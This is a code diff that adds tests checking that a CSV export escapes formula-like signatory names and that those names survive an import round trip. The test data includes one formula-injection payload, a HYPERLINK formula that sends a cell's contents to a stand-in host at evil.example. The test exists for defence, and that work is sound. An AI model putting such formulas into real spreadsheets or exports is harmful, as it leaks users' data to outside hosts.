@@ -7,10 +7,12 @@ import { readFileSync, rmSync, writeFileSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { fileURLToPath } from "node:url";
+import fc from "fast-check";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { verifyAuditChain } from "~/modules/audit/audit.server";
 import { migrateToLatest, openDatabase, type DB } from "~/modules/db/db.server";
-import { exportCsvText } from "~/modules/opendata/csv.server";
+import { createSignatory } from "~/modules/directory/write.server";
+import { csvCell, csvCellValue, exportCsvText } from "~/modules/opendata/csv.server";
 import { importSignatories, readCsv } from "~/modules/opendata/import.server";
 import pledgesJson from "../../db/seed/pledges.json";
 import sectorsJson from "../../db/seed/sectors.json";
@@ -117,6 +119,88 @@ describe("round trip", () => {
       await target.db.destroy();
     }
   }, 60_000);
+});
+
+describe("round trip of names a spreadsheet would run as formulas (CONTRACT §8)", () => {
+  /** Names as stored; the export writes each of the first eight with a leading '. */
+  const HOSTILE = [
+    '=HYPERLINK("http://evil.example/?l="&A1,"Open")',
+    "=1+2",
+    "-Minus Labs",
+    "+Plus Partners",
+    "@At Security",
+    // Already starting with ' and a trigger: exported with one more ', read back without it.
+    "'=Already Quoted",
+    "'-Dash Quoted",
+    "''@Twice Quoted",
+    // Starting with ' alone: written and read as it is.
+    "'Apostrophe Holdings",
+    "O'Brien = Partners",
+  ];
+
+  it("export → db:import into an empty database → export gives the same bytes, and the names as they were", async () => {
+    const source = await referenceOnlyDatabase();
+    const target = await referenceOnlyDatabase();
+    try {
+      await source.db.transaction().execute(async (trx) => {
+        for (const [i, name] of HOSTILE.entries()) {
+          await createSignatory(
+            trx,
+            {
+              name,
+              website: `https://hostile-${i}.example`,
+              country: "NL",
+              sector: "other",
+              description: "A formula-like name for the round trip.",
+              joined_on: "2024-12-01",
+              founding: false,
+              pledges: PRINCIPLES.split(";").map((code) => ({ code, endorsed_on: "2024-12-01" })),
+            },
+            `hostile-${i}`,
+          );
+        }
+      });
+      const first = await exportCsvText(source.db, ALL);
+      expect(first).toContain(`hostile-0,"'=HYPERLINK(""http://evil.example/?l=""&A1,""Open"")",`);
+      expect(first).toContain("hostile-5,''=Already Quoted,");
+      expect(first).toContain("hostile-7,'''@Twice Quoted,");
+      expect(first).toContain("hostile-8,'Apostrophe Holdings,");
+
+      const file = tempFile("hostile.csv", first);
+      const run = await runImport(file, target.url);
+      expect(run.stderr).toBe("");
+      expect(run.code).toBe(0);
+      expect(run.stdout).toContain(`added ${HOSTILE.length}, updated 0, unchanged 0`);
+      const names = await target.db.selectFrom("signatories").select(["slug", "name"]).orderBy("slug").execute();
+      expect(names).toEqual(HOSTILE.map((name, i) => ({ slug: `hostile-${i}`, name })));
+      expect(await exportCsvText(target.db, ALL)).toBe(first);
+      // Its own export changes nothing.
+      const again = await importSignatories(target.db, { file: "hostile.csv", content: Buffer.from(first), actor: "cli:tester", actorLabel: "tester" });
+      expect(again.ok && again.report).toMatchObject({ added: [], updated: [], unchanged: HOSTILE.length });
+    } finally {
+      await Promise.all([source.db.destroy(), target.db.destroy()]);
+    }
+  }, 60_000);
+
+  it("reads every cell back as it was written: triggers, tabs, carriage returns and leading apostrophes", () => {
+    const triggers = ["=", "+", "-", "@", "\t", "\r"];
+    for (const t of triggers) {
+      expect(csvCell(`${t}x`)).toBe(`'${t}x`);
+      expect(csvCell(`'${t}x`)).toBe(`''${t}x`);
+    }
+    for (const plain of ["", "'", "''", "'x", "x=", "Acme", " =x"]) expect(csvCell(plain)).toBe(plain);
+    fc.assert(
+      fc.property(
+        fc.tuple(fc.stringMatching(/^'{0,3}$/), fc.constantFrom("", ...triggers, "a", " "), fc.string()),
+        ([quotes, first, rest]) => {
+          const value = quotes + first + rest;
+          expect(csvCellValue(csvCell(value))).toBe(value);
+          expect(csvCell(value)).not.toMatch(/^[=+\-@\t\r]/);
+        },
+      ),
+      { numRuns: 500 },
+    );
+  });
 });
 
 describe("a bad file", () => {
